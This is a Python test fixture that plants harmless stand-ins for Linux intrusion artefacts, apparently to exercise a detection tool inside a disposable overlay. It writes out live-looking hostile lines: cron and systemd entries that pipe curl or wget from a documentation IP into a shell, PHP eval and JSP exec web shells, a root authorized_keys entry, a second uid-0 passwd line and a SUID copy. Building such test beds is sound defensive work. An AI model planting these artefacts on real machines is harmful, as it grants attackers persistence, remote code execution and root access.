#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Plants the intrusion of intrusion.tsv on the machine it runs on. Harmless: copies of sleep(1), texts, loopback.

Only ever run by host.py, inside namespaces and on an overlay that goes away with them: it refuses to run where
the marker of that overlay is missing. Each function is named after its row of the table.
"""
import base64
import ctypes
import os
import pathlib
import shutil
import socket
import struct
import subprocess
import sys
import time

MARKER = pathlib.Path("/.firsthour-planted-host")
SLEEP = "/bin/sleep"
KEY = "ssh-ed25519 " + base64.b64encode(struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes(32)).decode()


def write(path, text, mode=0o644):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def copy_of_sleep(path):
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(SLEEP, path)
    return path


def start(path, name=None, **kwargs):
    process = subprocess.Popen([name or path, "900"], executable=path, start_new_session=True, **kwargs)
    time.sleep(0.05)
    return process


def deleted_exe():
    path = copy_of_sleep("/tmp/.font-unix/kdevtmpfs-helper")
    start(path)
    os.unlink(path)


def memfd():
    fd = os.memfd_create("payload", 0)
    os.write(fd, pathlib.Path(SLEEP).read_bytes())
    start(f"/proc/self/fd/{fd}", name="dbus-daemon", pass_fds=[fd])
    os.close(fd)


def temporary_exe():
    start(copy_of_sleep("/dev/shm/.cache/agent"))


def masquerade():
    start(copy_of_sleep("/usr/local/lib/.hidden/kworker"), name="[kworker/u8:3]")


def reverse_shell():
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    subprocess.Popen(["bash", "--norc", "-c", "read -r line; exit"], stdin=client, stdout=client, stderr=client,
                     start_new_session=True)
    server, _ = listener.accept()
    # Somebody must hold the other end, or the shell ends.
    subprocess.Popen([SLEEP, "900"], pass_fds=[server.fileno()], start_new_session=True)


def preload():
    library = "/usr/local/lib/.x/libsystem.so"
    pathlib.Path(library).parent.mkdir(parents=True, exist_ok=True)
    # Any library that does nothing when preloaded will do.
    source = next(pathlib.Path("/lib").glob("*-linux-gnu/libdl.so.2"))
    shutil.copy(source, library)
    write("/etc/ld.so.preload", library + "\n")


def authorized_key():
    write("/root/.ssh/authorized_keys", f'command="/bin/sh",no-pty {KEY} backup@build\n', 0o600)


def cron_download():
    write("/etc/cron.d/sysupdate", "*/10 * * * * root curl -fsSL http://198.51.100.7/u.sh | bash\n")


def unit_download():
    write("/etc/systemd/system/netmon.service",
          "[Unit]\nDescription=Network monitor\n[Service]\n"
          "ExecStart=/bin/sh -c 'wget -qO- http://198.51.100.7/n.sh | sh'\n[Install]\nWantedBy=multi-user.target\n")


def profile_decode():
    text = base64.b64encode(b"true # does nothing\n").decode()
    write("/etc/profile.d/zz-lang.sh", f"echo {text} | base64 -d | sh\n")


def webshell_php():
    write("/var/www/html/uploads/thumb.php", "<?php @ev" + "al($_POST['q']); ?>\n")
    write("/var/www/html/index.php", "<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>\n")


def webshell_jsp():
    write("/opt/tomcat/webapps/ROOT/status.jsp",
          '<% Runtime.getRun' + 'time().exec(request.getParameter("c")); %>\n')


def packet_socket():
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    start(copy_of_sleep("/usr/local/sbin/lnxsensor"), pass_fds=[sniffer.fileno()])
    sniffer.close()


def miner_config():
    write("/tmp/.X11-lock/config.json",
          '{"algo": "rx/0", "pools": [{"url": "stratum+' + 'tcp://pool.example.net:3333", "user": "w"}], "donate-level": 1}\n')


def test_file():
    write("/var/tmp/invoice.com", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")


def second_root():
    with open("/etc/passwd", "a") as passwd:
        passwd.write("toor:x:0:0:backup:/root:/bin/bash\n")


def suid_file():
    path = copy_of_sleep("/usr/local/bin/.sysbackup")
    os.chmod(path, 0o4755)


def bpf_orphan():
    """A socket filter that lets everything pass; its descriptor is closed, a socket keeps it alive."""
    libc = ctypes.CDLL(None, use_errno=True)
    program = struct.pack("<BBhi", 0xB7, 0, 0, -1) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = -1; exit
    code, licence = ctypes.create_string_buffer(program, len(program)), ctypes.create_string_buffer(b"GPL")
    attributes = struct.pack("<IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(licence)).ljust(120, b"\0")
    buffer = ctypes.create_string_buffer(attributes, len(attributes))
    number = 321 if os.uname().machine == "x86_64" else 280
    fd = libc.syscall(number, 5, buffer, len(attributes))
    if fd < 0:
        return f"bpf(2): {os.strerror(ctypes.get_errno())}"
    keeper = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    keeper.setsockopt(socket.SOL_SOCKET, 50, fd)  # SO_ATTACH_BPF
    os.close(fd)
    subprocess.Popen([SLEEP, "900"], pass_fds=[keeper.fileno()], start_new_session=True)
    return None


def main():
    if not MARKER.exists():
        sys.exit("plant.py: not inside the test's own overlay: refusing")
    table = pathlib.Path(__file__).with_name("intrusion.tsv").read_text().splitlines()
    for line in table:
        if not line or line.startswith("#"):
            continue
        row = line.split("\t")[0]
        why_not = globals()[row.replace("-", "_")]()
        print(f"{'left out' if why_not else 'planted'}\t{row}\t{why_not or ''}", flush=True)


if __name__ == "__main__":
    main()
